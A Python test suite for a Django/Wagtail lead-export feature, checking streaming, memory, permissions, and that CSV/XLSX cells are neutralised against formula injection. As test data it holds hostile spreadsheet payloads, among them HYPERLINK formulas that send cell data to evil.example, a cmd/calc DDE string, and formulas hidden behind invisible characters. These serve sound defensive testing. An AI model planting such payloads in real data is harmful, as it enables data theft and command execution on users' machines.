"""Lead list exports: streamed, memory-flat, and safe to open in a spreadsheet.

The pure functions are tested on their own; the mixin is tested end to end through a minimal
Wagtail IndexView over submissions (mounted by this module's `urlpatterns`), so that the files
a salesperson downloads are parsed back with `csv` and openpyxl.
"""

import csv
import datetime as dt
import io
import itertools
import tracemalloc
import uuid
from decimal import Decimal

import openpyxl
import pytest
from django.contrib.auth.models import Permission
from django.db import connection
from django.http import FileResponse, StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import path, reverse
from django.utils import timezone
from wagtail.admin.views.generic import IndexView

from leads.exports import SafeSpreadsheetExportMixin, clean_for_xlsx, neutralise
from leads.models import Contact, Submission
from leadsite.urls import urlpatterns as site_urlpatterns
from tests.factories import capture_lead, make_cta, make_user

LIST_EXPORT = [
    "pk",
    "answers.name",
    "answers.company",
    "answers.message",
    "contact.score",
    "get_status_display",
    "received_at",
]


class ExportView(SafeSpreadsheetExportMixin, IndexView):
    """The smallest lead list with exports: what the inbox builds on."""

    model = Submission
    list_export = LIST_EXPORT
    export_headings = {"get_status_display": "Status", "contact.score": "Score"}
    list_filter = ["status"]
    search_fields = ["email"]
    index_url_name = index_results_url_name = "test_export"
    # Small chunks so that both list sizes in the memory test span many of them.
    export_chunk_size = 50

    def get_base_queryset(self):
        return Submission.objects.live().select_related("contact").order_by("pk")


class WagtailExportView(IndexView):
    """Wagtail's own export, as a yardstick for the memory test."""

    model = Submission
    list_export = LIST_EXPORT

    def get_base_queryset(self):
        return Submission.objects.live().select_related("contact").order_by("pk")


urlpatterns = [
    path("test-export/", ExportView.as_view(), name="test_export"),
    path("test-wagtail-export/", WagtailExportView.as_view(), name="test_wagtail_export"),
    *site_urlpatterns,
]

pytestmark = [pytest.mark.django_db, pytest.mark.urls(__name__)]

DANGEROUS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]
_keys = itertools.count()


def make_submissions(count, *, score=0, received_at=None, status="new", **answers):
    """`count` submissions of one contact, written in bulk (capture_lead is too slow for
    thousands)."""
    contact = Contact.objects.create(email=f"lead{next(_keys)}@example.com", score=score)
    answers = {
        "name": "José Müller",
        "company": "Acme",
        "message": "We would like a quote for lead capture on our blog. " * 4,
    } | answers
    received_at = received_at or timezone.now()
    Submission.objects.bulk_create(
        (
            Submission(
                contact=contact,
                email=contact.email,
                cta_kind="quote",
                cta_title="Quote",
                answers=answers,
                status=status,
                status_reason="No budget" if status == "disqualified" else "",
                received_at=received_at,
                idempotency_key=uuid.uuid4().hex,
            )
            for _ in range(count)
        ),
        batch_size=500,
    )


@pytest.fixture
def sales(client, db):
    user = make_user("sales", "Sales")
    client.force_login(user)
    return user


def download(client, url):
    """GET an export and read it whole, as a browser would."""
    response = client.get(url)
    assert response.status_code == 200, response.status_code
    return response, b"".join(response.streaming_content)


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM, so Excel reads accents right"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_rows(content: bytes) -> list[tuple]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return list(workbook.active.iter_rows(values_only=True))


# neutralise() ------------------------------------------------------------------------------


@pytest.mark.parametrize("value", DANGEROUS)
def test_text_starting_with_a_formula_trigger_gets_a_leading_quote(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", [" =1+1", "  @SUM(A1)", "\n-1+1", "\u00a0+1", " \t=1"])
def test_formula_trigger_after_leading_whitespace_is_neutralised_too(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["\uff1d1+1", " \uff20SUM(A1)"])
def test_full_width_formula_triggers_are_neutralised(value):
    assert neutralise(value) == "'" + value


def test_phone_number_with_plus_is_kept_whole_behind_the_quote():
    assert neutralise("+44 20 7946 0000") == "'+44 20 7946 0000"


@pytest.mark.parametrize("value", ["Ana Lima", "", "5k-20k", "a=b", "ana@acme.example", "'=1"])
def test_harmless_text_is_unchanged(value):
    assert neutralise(value) == value


@pytest.mark.parametrize(
    "value", [-5, 0, -5.5, Decimal("-12.50"), True, None, dt.date(2026, 11, 22)]
)
def test_numbers_and_other_non_text_values_are_unchanged(value):
    assert neutralise(value) is value


# clean_for_xlsx() --------------------------------------------------------------------------


@pytest.mark.parametrize("char", [chr(code) for code in [*range(0x00, 0x09), *range(0x0E, 0x20)]])
def test_control_characters_xml_forbids_are_dropped(char):
    assert clean_for_xlsx(f"Ana{char}Lima") == "AnaLima"


@pytest.mark.parametrize("char", ["\x0b", "\x0c"])
def test_word_line_and_page_breaks_become_line_feeds(char):
    assert clean_for_xlsx(f"line one{char}line two") == "line one\nline two"


def test_tab_and_line_feed_are_kept():
    assert clean_for_xlsx("a\tb\nc") == "a\tb\nc"


@pytest.mark.parametrize("value", ["one\r\ntwo", "one\rtwo"])
def test_carriage_returns_become_excel_line_breaks(value):
    assert clean_for_xlsx(value) == "one\ntwo"


@pytest.mark.parametrize("char", ["\ud800", "\udfff", "\ufffe", "\uffff"])
def test_surrogates_and_non_characters_are_dropped(char):
    assert clean_for_xlsx(f"Ana{char}Lima") == "AnaLima"


def test_non_text_is_returned_unchanged_by_clean_for_xlsx():
    assert clean_for_xlsx(-5) == -5
    assert clean_for_xlsx(None) is None


# Responses ---------------------------------------------------------------------------------


def test_csv_export_is_streamed_with_a_dated_filename_without_personal_data(client, sales):
    make_submissions(3)
    response = client.get("/test-export/?export=csv&q=example.com")
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="leads-{today}.csv"'
    b"".join(response.streaming_content)


def test_xlsx_export_is_streamed_from_a_file_with_a_dated_filename(client, sales):
    make_submissions(3)
    response = client.get("/test-export/?export=xlsx&q=example.com")
    assert isinstance(response, FileResponse)
    assert response.streaming
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="leads-{today}.xlsx"'
    content = b"".join(response.streaming_content)
    assert int(response["Content-Length"]) == len(content)
    assert len(xlsx_rows(content)) == 1 + 3


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_export_holds_the_current_filtered_list_only(client, sales, export):
    make_submissions(2, status="qualified", name="Qualified lead")
    make_submissions(3, status="new", name="New lead")
    _, content = download(client, f"/test-export/?export={export}&status=qualified")
    rows = csv_rows(content) if export == "csv" else xlsx_rows(content)
    assert [row[1] for row in rows[1:]] == ["Qualified lead", "Qualified lead"]


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_export_runs_the_same_queries_for_3_or_30_rows(client, sales, export):
    """select_related keeps working through iterator(): no query per row or per chunk."""

    def queries_for(count):
        Submission.objects.all().delete()
        make_submissions(count)
        with CaptureQueriesContext(connection) as queries:
            download(client, f"/test-export/?export={export}")
        return len(queries)

    assert queries_for(30) == queries_for(3)


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_user_without_export_permission_gets_no_file(client, django_user_model, export):
    make_submissions(1)
    user = django_user_model.objects.create_user("viewer", "viewer@example.com", "pw")
    user.user_permissions.add(
        Permission.objects.get(codename="access_admin"),
        Permission.objects.get(codename="view_submission"),
    )
    client.force_login(user)
    response = client.get(f"/test-export/?export={export}")
    assert response.status_code == 302
    assert b"Acme" not in response.content


# Content -----------------------------------------------------------------------------------

HOSTILE_ANSWERS = {
    "name": '=HYPERLINK("http://evil.example","Click")',
    "company": "@SUM(A1:A9)",
    # Line breaks inside a cell, as a person types them in the message box.
    "message": "-2+3\r\nline two\nline three",
}


def test_csv_cells_are_neutralised_and_otherwise_intact(client, sales):
    make_submissions(1, score=-5, **HOSTILE_ANSWERS)
    _, content = download(client, "/test-export/?export=csv")
    header, row = csv_rows(content)
    assert header[1:5] == ["Name", "Company", "Message", "Score"]
    assert row[1] == "'" + HOSTILE_ANSWERS["name"]
    assert row[2] == "'" + HOSTILE_ANSWERS["company"]
    assert row[3] == "'" + HOSTILE_ANSWERS["message"]
    assert row[4] == "-5", "a number, written bare: no quote"


@pytest.mark.parametrize("value", DANGEROUS)
def test_each_dangerous_prefix_is_neutralised_in_csv_and_xlsx(client, sales, value):
    make_submissions(1, company=value)
    _, csv_content = download(client, "/test-export/?export=csv")
    _, xlsx_content = download(client, "/test-export/?export=xlsx")
    assert csv_rows(csv_content)[1][2] == "'" + value
    # XLSX line breaks are line feeds (see clean_for_xlsx): "\r=1+1" arrives as "\n=1+1".
    assert xlsx_rows(xlsx_content)[1][2] == "'" + value.replace("\r", "\n")


def test_control_characters_are_dropped_in_both_formats_before_formulas_are_neutralised(
    client, sales
):
    # What reaches the database from older rows or other paths: escape, bell, Word's vertical
    # tab (the lead forms and leads/cleaning.py keep new ones out).
    name = "Ana\x01Li\x1bma"
    message = "line one\x0bline two\x07\r\nend"
    make_submissions(1, name=name, message=message, company="\x02=1+1")
    _, csv_content = download(client, "/test-export/?export=csv")
    _, xlsx_content = download(client, "/test-export/?export=xlsx")

    csv_row = csv_rows(csv_content)[1]
    assert csv_row[1] == "AnaLima"
    assert csv_row[3] == "line one\nline two\r\nend", "line breaks kept as typed"
    assert csv_row[2] == "'=1+1", "LibreOffice drops the control and would run the formula"

    xlsx_row = xlsx_rows(xlsx_content)[1]
    assert xlsx_row[1] == "AnaLima"
    assert xlsx_row[3] == "line one\nline two\nend"
    assert xlsx_row[2] == "'=1+1", "dropping the control exposed a formula: neutralised after"


# Stored by older rows or other paths (PostgreSQL cannot store a NUL: see the test below).
HIDDEN_FORMULAS = {
    "start of heading": '\x01=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "escape": "\x1b+1+1",
    "DEL": "\x7f-1+1",
    "C1 control": "\x85@SUM(A1)",
    "no-break space": "\u00a0=1+1",
    "ideographic space": "\u3000=1+1",
    "zero-width space": "\u200b=1+1",
    "byte order mark": "\ufeff=1+1",
    "right-to-left mark": "\u200f=1+1",
    "line separator": "\u2028=1+1",
}


@pytest.mark.parametrize("value", HIDDEN_FORMULAS.values(), ids=HIDDEN_FORMULAS.keys())
@pytest.mark.parametrize("column", ["name", "company", "message"])
def test_formula_behind_invisible_characters_is_neutralised_in_every_column(
    client, sales, value, column
):
    make_submissions(1, **{column: value})
    _, csv_content = download(client, "/test-export/?export=csv")
    _, xlsx_content = download(client, "/test-export/?export=xlsx")
    position = LIST_EXPORT.index(f"answers.{column}")
    for exported in (csv_rows(csv_content)[1][position], xlsx_rows(xlsx_content)[1][position]):
        assert exported.startswith("'"), repr(exported)
        assert "=" in exported or "+" in exported or "@" in exported or "-" in exported


def test_lone_surrogate_cannot_end_a_csv_download():
    """SQLite stores one if a JSON answer holds the escape "\\ud800"; UTF-8 has no code for it."""
    encoded = SafeSpreadsheetExportMixin._encode_csv(["Ana \ud800Lima\r\n"])
    assert encoded == b"Ana ?Lima\r\n"


def test_xlsx_keeps_numbers_numeric_and_text_as_text(client, sales):
    make_submissions(1, score=-5, **HOSTILE_ANSWERS)
    _, content = download(client, "/test-export/?export=xlsx")
    worksheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header, row = list(worksheet.iter_rows(min_row=1, max_row=2))
    assert [cell.value for cell in header[1:5]] == ["Name", "Company", "Message", "Score"]
    assert row[4].value == -5
    assert row[4].data_type == "n"
    assert row[1].data_type == "s"
    assert row[1].value == "'" + HOSTILE_ANSWERS["name"]
    assert row[3].value == "'-2+3\nline two\nline three"


def test_dates_are_in_the_site_time_zone_and_unambiguous(client, sales, settings):
    settings.TIME_ZONE = "Europe/Paris"
    make_submissions(1, received_at=dt.datetime(2026, 1, 15, 12, 0, 5, 123, tzinfo=dt.UTC))
    _, csv_content = download(client, "/test-export/?export=csv")
    _, xlsx_content = download(client, "/test-export/?export=xlsx")

    csv_header, csv_row = csv_rows(csv_content)
    assert csv_header[6] == "Received (Europe/Paris)"
    assert csv_row[6] == "2026-01-15 13:00:05+01:00"

    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_content))
    xlsx_header, xlsx_row = list(workbook.active.iter_rows(min_row=1, max_row=2))
    assert xlsx_header[6].value == "Received (Europe/Paris)"
    assert xlsx_row[6].value == dt.datetime(2026, 1, 15, 13, 0, 5)
    assert xlsx_row[6].number_format == "yyyy-mm-dd hh:mm:ss"


# Memory ------------------------------------------------------------------------------------


def peak_memory(client, url) -> int:
    """Peak bytes allocated while the export is produced and read to the end."""
    tracemalloc.start()
    try:
        response = client.get(url)
        # Sent on, as a server does: keeping the file would measure its size. The test
        # client closes the response when the content is exhausted.
        for _chunk in response.streaming_content:
            pass
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_export_memory_does_not_grow_with_the_number_of_rows(client, sales, export):
    """Ten times the rows, about the same peak: only one chunk of rows is ever held.

    Wagtail's own export of the same rows is measured as a yardstick, to show that this test
    does see memory that grows with the rows. Sizes are small because tracing allocations
    makes Python several times slower; bench/inbox measures 100k rows. Chunks of 50 rows
    (see ExportView) make both sizes span several chunks.
    """
    url = f"/test-export/?export={export}"
    make_submissions(100)
    peak_memory(client, url)  # warm up: imports, URL resolver, first-use caches
    small = peak_memory(client, url)
    make_submissions(900)
    big = peak_memory(client, url)
    # Measured: 1.1 to 1.5 times (interpreter caches and garbage-collector timing), never 10.
    assert big < 2 * small, (small, big)
    if export == "csv":
        wagtail = peak_memory(client, f"/test-wagtail-export/?export={export}")
        assert wagtail > 4 * big, (small, big, wagtail)


# The inbox ---------------------------------------------------------------------------------


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_inbox_exports_its_leads_neutralised(client, sales, export):
    cta = make_cta("quote")
    capture_lead(cta, name="=1+1", company="@SUM(A1)", message="-2+3")
    url = reverse("leads_inbox:index") + f"?cta={cta.pk}&export={export}"
    response, content = download(client, url)
    assert response["Content-Disposition"].startswith('attachment; filename="leads-')
    header, row = csv_rows(content) if export == "csv" else xlsx_rows(content)
    exported = dict(zip(header, row, strict=True))
    assert exported["Name"] == "'=1+1"
    assert exported["Company"] == "'@SUM(A1)"
    assert exported["What do you need?"] == "'-2+3"
    assert exported["Email"] == "ana@acme.example"


@pytest.mark.parametrize("role", ["Editors", "Moderators"])
def test_inbox_export_gives_editors_no_file(client, role):
    capture_lead(make_cta("quote"), company="Secret Corp")
    client.force_login(make_user("someone", role))
    response = client.get(reverse("leads_inbox:index") + "?export=csv", follow=True)
    assert not response.streaming
    assert b"Secret Corp" not in response.content


def test_formula_behind_a_nul_is_neutralised_before_it_reaches_the_csv():
    """PostgreSQL cannot store a NUL, SQLite can (and older rows may hold one): the cell is
    cleaned, then neutralised, whatever the database gave."""
    view = ExportView()
    cell = view.safe_cell_value("utm_source", '\x00=HYPERLINK("https://evil.example")', "csv")
    assert cell == '\'=HYPERLINK("https://evil.example")'


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_inbox_neutralises_a_formula_hidden_behind_a_control_in_a_utm_column(client, sales, export):
    capture_lead(make_cta("quote"))
    Submission.objects.update(
        utm_source='\x1b=HYPERLINK("https://evil.example/?"&B2,"Open")',
        utm_campaign="\u00a0@SUM(1+1)*cmd|' /C calc'!A0",
    )
    _, content = download(client, reverse("leads_inbox:index") + f"?export={export}")
    header, row = csv_rows(content) if export == "csv" else xlsx_rows(content)
    exported = dict(zip(header, row, strict=True))
    assert exported["UTM source"] == '\'=HYPERLINK("https://evil.example/?"&B2,"Open")'
    assert exported["UTM campaign"] == "'\u00a0@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize("export", ["csv", "xlsx"])
@pytest.mark.parametrize("phone", ["+44 20 7946 0000", "+1 (555) 010-0199", "-0049.30/1234"])
def test_inbox_exports_plain_phone_numbers_without_a_quote_a_crm_would_import(
    client, sales, export, phone
):
    capture_lead(make_cta("quote"), phone=phone)
    _, content = download(client, reverse("leads_inbox:index") + f"?export={export}")
    header, row = csv_rows(content) if export == "csv" else xlsx_rows(content)
    assert dict(zip(header, row, strict=True))["Phone"] == phone


@pytest.mark.parametrize("export", ["csv", "xlsx"])
@pytest.mark.parametrize("phone", ["=1+1", "+1 HYPERLINK(A1)", "\x1b+44 20 7946 0000|A"])
def test_a_phone_column_holding_anything_but_a_number_is_still_neutralised(
    client, sales, export, phone
):
    capture_lead(make_cta("quote"))
    Contact.objects.update(phone=phone)
    _, content = download(client, reverse("leads_inbox:index") + f"?export={export}")
    header, row = csv_rows(content) if export == "csv" else xlsx_rows(content)
    assert dict(zip(header, row, strict=True))["Phone"].startswith("'")


# One vocabulary (issue 17) -----------------------------------------------------------------


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_inbox_exports_choice_answers_as_labels_and_consent_as_yes_no(client, sales, export):
    cta = make_cta("quote")
    capture_lead(cta, budget="20k-50k", timeline="now")
    url = reverse("leads_inbox:index") + f"?cta={cta.pk}&export={export}"
    _, content = download(client, url)
    header, row = csv_rows(content) if export == "csv" else xlsx_rows(content)
    exported = dict(zip(header, row, strict=True))
    assert exported["Budget"] == "$20,000 to $50,000"
    assert exported["Timeline"] == "As soon as possible"
    assert exported["Status"] == "New"
    assert exported["CTA kind"] == "Quote request"
    assert next(value for key, value in exported.items() if key.startswith("Consent")) in {
        "Yes",
        "No",
    }
    assert "20k-50k" not in {str(value) for value in row}


def test_a_choice_code_no_longer_offered_is_exported_as_stored():
    assert ExportView().safe_cell_value("budget", "over-1m", "csv") == "over-1m"
